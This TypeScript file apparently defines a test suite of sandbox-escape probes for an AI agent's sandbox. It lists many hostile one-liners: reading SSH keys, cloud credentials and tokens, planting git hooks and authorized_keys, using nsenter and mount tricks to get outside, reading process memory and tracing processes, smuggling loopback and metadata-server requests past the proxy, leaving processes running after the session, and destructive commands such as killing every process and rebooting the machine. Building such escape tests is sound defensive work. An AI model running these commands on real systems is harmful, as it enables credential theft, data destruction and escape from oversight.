/**
 * One try to get out of the sandbox: a small program, run in the worktree of a `World` (escape-world.ts). What it reaches is seen from outside: a secret in its
 * output, a change of a file, a caller at one of the servers, a process that is left. Where that cannot tell, the program prints ESCAPED itself.
 */
export interface Probe {
  readonly group: string
  readonly name: string
  readonly sh?: string
  readonly node?: string
  readonly perl?: string
  /** It would harm the machine without a sandbox, so that it is not proved to be able to succeed, and not counted. */
  readonly onlyInside?: boolean
}

const files: Readonly<Record<string, string>> = {
  'append to a start file of the home': 'echo x >> ~/.bashrc',
  'replace a start file of the home': 'echo x > ~/.p && mv -f ~/.p ~/.profile',
  'make a new file in the home': 'echo x > ~/new-file',
  'remove a file of the home': 'rm -f ~/.bashrc',
  'put a key into .ssh': 'mkdir -p ~/.ssh && echo key >> ~/.ssh/authorized_keys',
  'start with the desktop': 'mkdir -p ~/.config/autostart && echo x > ~/.config/autostart/x.desktop',
  'shadow a command of the user': 'mkdir -p ~/.local/bin && echo x > ~/.local/bin/git',
  'give git an alias': 'git config --file ~/.gitconfig alias.st "!id"',
  'write the state database': 'echo x >> "$P_STATE/state.db"',
  'replace the token': 'echo x > "$P_STATE/t" && mv -f "$P_STATE/t" "$P_STATE/token"',
  'trust a project': 'echo "{}" > "$P_STATE/trust.json"',
  'write our configuration': 'echo "hooks: [id]" >> "$P_CONFIG/config.yaml"',
  "write the user's copy of the project": 'echo x >> "$P_PROJECT/a.txt"',
  "put a hook into the user's repository":
    'echo id > "$P_PROJECT/.git/hooks/pre-commit" && chmod +x "$P_PROJECT/.git/hooks/pre-commit"',
  "configure the user's repository": 'git config --file "$P_PROJECT/.git/config" core.fsmonitor id',
  'configure the repository behind the worktree': 'git config --file "$P_REPO/config" core.fsmonitor id',
  'put a hook into the repository behind the worktree':
    'mkdir -p "$P_REPO/hooks" && echo id > "$P_REPO/hooks/post-checkout"',
  'move a branch of the repository behind the worktree':
    'export GIT_AUTHOR_NAME=A GIT_AUTHOR_EMAIL=a GIT_COMMITTER_NAME=A GIT_COMMITTER_EMAIL=a; git update-ref refs/heads/main "$(git commit-tree -m x "HEAD^{tree}")"',
  "write the worktree's .git file": 'echo "gitdir: /tmp/evil" > .git',
  "rename the worktree's .git file": 'mv .git elsewhere',
  "remove the worktree's .git file": 'rm -f .git',
  "replace the worktree's .git file": 'echo "gitdir: /tmp/evil" > g && mv -f g .git',
  'rename the worktree': 'cd "$P_OTHER" && mv "$P_WORK" "$P_BASE/moved"',
  'rename what is above the worktree': 'cd / && mv "$P_BASE/trees" "$P_BASE/moved"',
  'replace a settings file that is kept from the agent': 'echo x > s && mv -f s .agent/settings.json',
  'rename the folder of such a file': 'mv .agent away && mkdir .agent && echo x > .agent/settings.json',
  'make such a file that is not there yet': 'mkdir -p .other && echo x > .other/absent.json',
  'write another worktree': 'echo x > "$P_OTHER/pwned"',
  'write through ..': 'echo x > ../other/pwned',
  'write through a link to a directory': 'ln -s "$P_OUT" l && echo x > l/pwned',
  'empty a file through a link': 'ln -s "$P_OUT/outside.txt" l2 && : > l2',
  'write through a hard link': 'ln "$P_OUT/outside.txt" hl && echo x >> hl',
  'write through /proc/self/root': 'echo x > "/proc/self/root$P_OUT/pwned"',
  'write through /proc/1/root': 'echo x > "/proc/1/root$P_OUT/pwned"',
  "write through the engine's root": 'echo x > "/proc/$P_ENGINE/root$P_OUT/pwned"',
  "write in another process's directory": 'echo x > "/proc/$P_VICTIM/cwd/pwned"',
  'change the mode of a file outside': 'chmod 777 "$P_OUT/outside.txt"',
  'change the time of a file outside': 'touch -d 2001-01-01 "$P_OUT/outside.txt"',
  'shorten a file outside': 'truncate -s 1 "$P_OUT/outside.txt"',
  'remove everything outside': 'rm -rf "$P_OUT"',
  'put a file into /etc': 'echo x > "/etc/$P_ID"',
  'put a program into /usr/local/bin': 'echo x > "/usr/local/bin/$P_ID"',
  'put a file into /var/lib': 'echo x > "/var/lib/$P_ID"',
  'put a file into /tmp': 'echo x > "/tmp/$P_ID"',
  'put a file into /var/tmp': 'echo x > "/var/tmp/$P_ID"',
  'put a file into shared memory': 'echo x > "/dev/shm/$P_ID"',
  'put a file into /run': 'echo x > "/run/$P_ID"',
  'use a directory that was left open': 'echo x > "/proc/self/fd/40/$P_ID/out/pwned"',
  'let a link be brought home': 'rm -f ~/.agent.json && ln -s "$P_STATE/token" ~/.agent.json',
  'let a pipe be brought home': 'rm -f ~/.agent.json && mkfifo ~/.agent.json',
}

const secrets: Readonly<Record<string, string>> = {
  'read an SSH key': 'cat ~/.ssh/id_ed25519',
  'read cloud credentials': 'cat ~/.aws/credentials',
  'read .netrc': 'cat ~/.netrc',
  'read the npm token': 'cat ~/.npmrc',
  "read git's credentials": 'cat ~/.git-credentials',
  "read the code host's token": 'cat ~/.config/gh/hosts.yml',
  'read a PGP key': 'cat ~/.gnupg/secring',
  'read the shell history': 'cat ~/.bash_history',
  "read another agent's login": 'cat ~/.codex/auth.json',
  "read another agent's session": 'cat ~/.local/share/opencode/auth.json',
  'read the state database': 'cat "$P_STATE/state.db"',
  'read the token of the server': 'cat "$P_STATE/token"',
  'read what is trusted': 'cat "$P_STATE/trust.json"',
  'read our configuration': 'cat "$P_CONFIG/config.yaml"',
  "read an untracked file of the user's copy": 'cat "$P_PROJECT/.env"',
  "read the user's repository": 'git -c safe.directory="*" -C "$P_PROJECT" show HEAD:secret.txt',
  'read a key through a link': 'ln -s ~/.ssh k && cat k/id_ed25519',
  'read a key through a hard link': 'ln ~/.ssh/id_ed25519 k2 && cat k2',
  'read a key through /proc/self/root': 'cat "/proc/self/root$HOME/.ssh/id_ed25519"',
  'read a key through /proc/1/root': 'cat "/proc/1/root$HOME/.ssh/id_ed25519"',
  "read a key through the engine's root": 'cat "/proc/$P_ENGINE/root$HOME/.ssh/id_ed25519"',
  'search everything': 'grep -rsah CANARY "$P_BASE" ~ || true',
  "read the engine's environment": 'cat "/proc/$P_ENGINE/environ"',
  'read every environment': 'cat /proc/[0-9]*/environ',
  "read another process's arguments": 'cat /proc/[0-9]*/cmdline',
  "read in another process's directory": 'cat "/proc/$P_VICTIM/cwd/secret"',
  "read another process's open file": 'cat "/proc/$P_VICTIM/fd/7"',
  'see a secret variable': 'env',
  'read the password hashes': 'grep -q "^root:" /etc/shadow && echo ESCAPED',
  'take a cover away': 'umount ~/.config/gh; cat ~/.config/gh/hosts.yml',
  'take a cover away in a namespace of its own':
    'unshare -Urm sh -c "umount ~/.config/gh; cat ~/.config/gh/hosts.yml" || unshare -m cat ~/.config/gh/hosts.yml',
}

const kernel: Readonly<Record<string, string>> = {
  'mount over a directory': 'mount -t tmpfs x "$P_OTHER" && echo ESCAPED',
  'make the root writable': 'mount -o remount,bind,rw / ; echo x > "$P_OUT/pwned"',
  'bind what is hidden': 'mkdir m && mount --bind "$P_STATE" m && cat m/token',
  'change the root': 'chroot /proc/1/root /bin/cat "$P_STATE/token"',
  'mount in a namespace of its own': 'unshare -Urm sh -c "mount -t tmpfs x $P_OTHER && echo ESCAPED"',
  'mount another /proc': 'unshare -Urpf --mount-proc true && echo ESCAPED',
  'mount a cgroup tree':
    'mkdir c && unshare -UrmC mount -t cgroup2 x c && echo ESCAPED || { mount -t cgroup2 x c && echo ESCAPED; }',
  "enter the engine's file system": 'nsenter -t "$P_ENGINE" -m /bin/cat "$P_STATE/token"',
  "enter the engine's network": 'nsenter -t "$P_ENGINE" -n true && echo ESCAPED',
  'gain rights by starting a program': 'grep -q "NoNewPrivs:.0" /proc/self/status && echo ESCAPED',
  'have a capability': 'grep -q "CapEff:.0000000000000000" /proc/self/status || echo ESCAPED',
  'make a device': 'mknod n c 1 3 && echo ESCAPED',
  'read a disk':
    'for d in $(awk "NR>2{print \\$4}" /proc/partitions); do head -c 1 "/dev/$d" > /dev/null 2>&1 && echo ESCAPED; done',
  'make and read a disk':
    'set -- $(awk "NR==3{print \\$1, \\$2}" /proc/partitions); mknod d b "$1" "$2" && head -c 1 d > /dev/null && echo ESCAPED',
  'read the memory of the machine':
    'test -r /dev/mem && head -c 1 /dev/mem > /dev/null && echo ESCAPED; head -c 1 /proc/kcore > /dev/null && test "$(head -c 4 /proc/kcore | wc -c)" = 4 && echo ESCAPED',
  "read the kernel's log": 'timeout 2 dd if=/dev/kmsg bs=8192 count=1 2>/dev/null | grep -q . && echo ESCAPED',
  'write a setting of the kernel': 'f=/proc/sys/kernel/core_pattern; v=$(cat $f) && echo "$v" > $f && echo ESCAPED',
  'write a setting of a device':
    'for f in /sys/block/*/queue/read_ahead_kb; do v=$(cat "$f") && echo "$v" > "$f" && echo ESCAPED; done',
  'make a cgroup':
    'for d in /sys/fs/cgroup /sys/fs/cgroup/*/; do mkdir "$d/$P_ID" && echo ESCAPED && rmdir "$d/$P_ID"; done',
  'change its cgroup':
    'for f in /sys/fs/cgroup/cgroup.procs /sys/fs/cgroup/*/cgroup.procs; do echo $$ > "$f" && echo ESCAPED; done',
  'kill a process outside': 'kill -9 "$P_VICTIM"',
  'signal the engine': 'kill -0 "$P_ENGINE" && echo ESCAPED',
  'stop a process outside': 'kill -STOP "$P_VICTIM" && echo ESCAPED && kill -CONT "$P_VICTIM"',
  'slow a process outside down': 'renice -n 19 -p "$P_VICTIM" && echo ESCAPED',
  'have a process outside killed first': 'echo 1000 > "/proc/$P_VICTIM/oom_score_adj" && echo ESCAPED',
  'limit a process outside': 'prlimit --pid "$P_VICTIM" --nofile=4:4 && echo ESCAPED',
  'count the processes outside': 'ls -d /proc/[0-9]* | grep -qx "/proc/$P_VICTIM" && echo ESCAPED',
  "see the machine's shared memory": 'ipcs -m | grep -qw "$P_SHM" && echo ESCAPED',
}

const socketOf = (where: string, what = '') =>
  `const s=require('net').connect(${where});s.on('error',()=>process.exit(1));s.on('connect',()=>s.write(${what === '' ? "'GET / HTTP/1.0\\r\\n\\r\\n'" : what}));s.on('data',d=>process.stdout.write(d));setTimeout(()=>process.exit(),3000).unref();s.on('close',()=>process.exit())`

const network: Readonly<Record<string, string>> = {
  "call a server on the machine's loopback": socketOf('process.env.P_TCP,"127.0.0.1"'),
  "call a server on the machine's IPv6 loopback": socketOf('process.env.P_TCP6,"::1"'),
  "call a server on the machine's own address": socketOf('process.env.P_TCP,process.env.P_ADDRESS'),
  'send a datagram': `const s=require('dgram').createSocket('udp4');s.send('x',process.env.P_UDP,'127.0.0.1',()=>s.close())`,
  'ask a name server of its own': `const d=require('dns');const r=new d.Resolver({timeout:500,tries:1});r.setServers(['127.0.0.1:'+process.env.P_UDP]);r.resolve4('secret.evil.example',()=>{})`,
  'use a socket in a directory in sight': socketOf('process.env.P_OTHER+"/docker.sock"'),
  'use a socket of the home': socketOf('process.env.HOME+"/.agent-sockets/ssh"'),
  'use a socket in /tmp': socketOf('"/tmp/"+process.env.P_ID+"-X"'),
  'use a socket in /run': socketOf('"/run/"+process.env.P_ID+"-bus"'),
  'use a socket without a file': socketOf('"\\0"+process.env.P_ID'),
}

// What is asked of the proxy. Without the sandbox a careless proxy stands in, which falls for all of them (escape-world.ts).
const asked: Readonly<Record<string, string>> = {
  'a host that is not allowed': "'CONNECT evil.example:443 HTTP/1.1\\r\\n\\r\\n'",
  'a host that ends like an allowed one': "'CONNECT notallowed.example:443 HTTP/1.1\\r\\n\\r\\n'",
  'a host that begins like an allowed one': "'CONNECT allowed.example.evil.test:443 HTTP/1.1\\r\\n\\r\\n'",
  'the name above allowed subdomains': "'CONNECT wild.example:443 HTTP/1.1\\r\\n\\r\\n'",
  'another port of an allowed host': "'CONNECT allowed.example:22 HTTP/1.1\\r\\n\\r\\n'",
  'an allowed host behind a NUL': "'CONNECT 127.0.0.1\\0.wild.example:443 HTTP/1.1\\r\\n\\r\\n'",
  'an allowed host behind a coded NUL': "'CONNECT 127.0.0.1%00.wild.example:443 HTTP/1.1\\r\\n\\r\\n'",
  'an allowed host as a user name': "'CONNECT allowed.example@127.0.0.1:443 HTTP/1.1\\r\\n\\r\\n'",
  'an allowed host and another after a line break':
    "'CONNECT allowed.example:443 HTTP/1.1\\r\\nHost: 127.0.0.1:'+process.env.P_TCP+'\\r\\n\\r\\n'",
  'a dot at the end': "'CONNECT evil.example.:443 HTTP/1.1\\r\\n\\r\\n'",
  "the machine's loopback": "'CONNECT 127.0.0.1:'+process.env.P_TCP+' HTTP/1.1\\r\\n\\r\\n'",
  "the machine's name": "'CONNECT localhost:'+process.env.P_TCP+' HTTP/1.1\\r\\n\\r\\n'",
  "the machine's loopback as a number": "'CONNECT 2130706433:'+process.env.P_TCP+' HTTP/1.1\\r\\n\\r\\n'",
  "the machine's loopback in octal": "'CONNECT 0177.0.0.1:'+process.env.P_TCP+' HTTP/1.1\\r\\n\\r\\n'",
  "the machine's loopback in short": "'CONNECT 127.1:'+process.env.P_TCP+' HTTP/1.1\\r\\n\\r\\n'",
  'the address 0': "'CONNECT 0.0.0.0:'+process.env.P_TCP+' HTTP/1.1\\r\\n\\r\\n'",
  "the machine's IPv6 loopback": "'CONNECT [::1]:'+process.env.P_TCP6+' HTTP/1.1\\r\\n\\r\\n'",
  'an IPv4 address inside an IPv6 one': "'CONNECT [::ffff:127.0.0.1]:'+process.env.P_TCP+' HTTP/1.1\\r\\n\\r\\n'",
  'the metadata server': "'CONNECT 169.254.169.254:80 HTTP/1.1\\r\\n\\r\\n'",
  'a plain request to the loopback':
    "'GET http://127.0.0.1:'+process.env.P_TCP+'/ HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n'",
  'a plain request with another Host':
    "'GET http://allowed.example/ HTTP/1.1\\r\\nHost: 127.0.0.1:'+process.env.P_TCP+'\\r\\n\\r\\n'",
  'a plain request with a user name':
    "'GET http://allowed.example@127.0.0.1:'+process.env.P_TCP+'/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'",
  'a request of another scheme': "'GET ftp://127.0.0.1:'+process.env.P_TCP+'/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'",
  'a second request behind an allowed one':
    "'GET http://allowed.example/ HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\nGET http://127.0.0.1:'+process.env.P_TCP+'/ HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n'",
}

/** The request itself is allowed; what comes with it is not. */
const isFine = /^'(CONNECT allowed\.example:443 |GET http:\/\/allowed\.example\/ )/
/** That no such name exists is no merit of the proxy: it was not to try. */
const sayTried = ";s.on('data',d=>{if(/^HTTP\\S+ (200|502)/.test(d))console.log('ESCAPED')})"

const perl: Readonly<Record<string, string>> = {
  'make a raw socket': 'use Socket; socket(my $s, AF_INET, SOCK_RAW, 1) and print "ESCAPED\\n"',
  'listen to every packet': 'socket(my $s, 17, 3, 768) and print "ESCAPED\\n"',
  'call the host of a virtual machine': 'socket(my $s, 40, 1, 0) and print "ESCAPED\\n"',
  'trace a process outside':
    'syscall(101, 16, $ENV{P_VICTIM}+0, 0, 0) == 0 and print "ESCAPED\\n" and waitpid($ENV{P_VICTIM}, 0x40000000), syscall(101, 17, $ENV{P_VICTIM}+0, 0, 0)',
  'read the memory of a process outside':
    'open(my $m, "<", "/proc/$ENV{P_VICTIM}/maps") or exit; my ($a) = map { /^(\\w+)-\\w+ r/ ? hex $1 : () } <$m>; open(my $f, "<", "/proc/$ENV{P_VICTIM}/mem") or exit; sysseek($f, $a, 0); sysread($f, my $b, 4) and print "ESCAPED\\n"',
  "read a key of the kernel's keyring":
    'my $d = "$ENV{P_ID}"; my $t = "user"; my $k = syscall(250, 10, -4, $t, $d, 0); exit if $k < 0; my $b = "\\0" x 100; syscall(250, 11, $k, $b, 100); print $b',
}

const survivors: Readonly<Record<string, string>> = {
  'in the background': 'sleep "$P_SLEEP" & exit 0',
  'in a session of its own': 'setsid sleep "$P_SLEEP" & sleep 0.1',
  'after a double fork': '(setsid sh -c "sleep $P_SLEEP & exit 0" &) ; sleep 0.1',
  'with an empty environment': 'env -i setsid -f sleep "$P_SLEEP"; sleep 0.1',
  'with nohup': 'nohup sleep "$P_SLEEP" > /dev/null 2>&1 & sleep 0.1',
  'deaf to signals': '(trap "" TERM INT HUP QUIT; setsid sleep "$P_SLEEP" > /dev/null 2>&1 < /dev/null &) ; sleep 0.1',
  'elsewhere, with nothing open':
    'cd /; env -i setsid -f sh -c "exec sleep $P_SLEEP" > /dev/null 2>&1 < /dev/null; sleep 0.1',
}

const dangerous: Readonly<Record<string, string>> = {
  'kill everything': 'kill -9 -1; true',
  'restart the machine': 'echo b > /proc/sysrq-trigger && echo ESCAPED',
  'rename the machine': 'cat /proc/sys/kernel/hostname; echo evil > /proc/sys/kernel/hostname; hostname evil',
  'load into the kernel': 'echo x > /sys/kernel/uevent_helper && echo ESCAPED',
}

/** Every try there is. */
export const probes: readonly Probe[] = [
  ...all('write', files, (sh) => ({ sh })),
  ...all('read', secrets, (sh) => ({ sh })),
  ...all('kernel', kernel, (sh) => ({ sh })),
  ...all('kernel', perl, (code) => ({ perl: code })),
  ...all('network', network, (node) => ({ node })),
  ...all('ask the proxy for', asked, (text) => ({
    node: socketOf('new URL(process.env.HTTP_PROXY).port,"127.0.0.1"', text) + (isFine.test(text) ? '' : sayTried),
  })),
  ...all('survive', survivors, (sh) => ({ sh })),
  ...all('harm', dangerous, (sh) => ({ sh, onlyInside: true })),
]

function all(
  group: string,
  of: Readonly<Record<string, string>>,
  program: (code: string) => Omit<Probe, 'group' | 'name'>,
): Probe[] {
  return Object.entries(of).map(([name, code]) => ({ group, name, ...program(code) }))
}
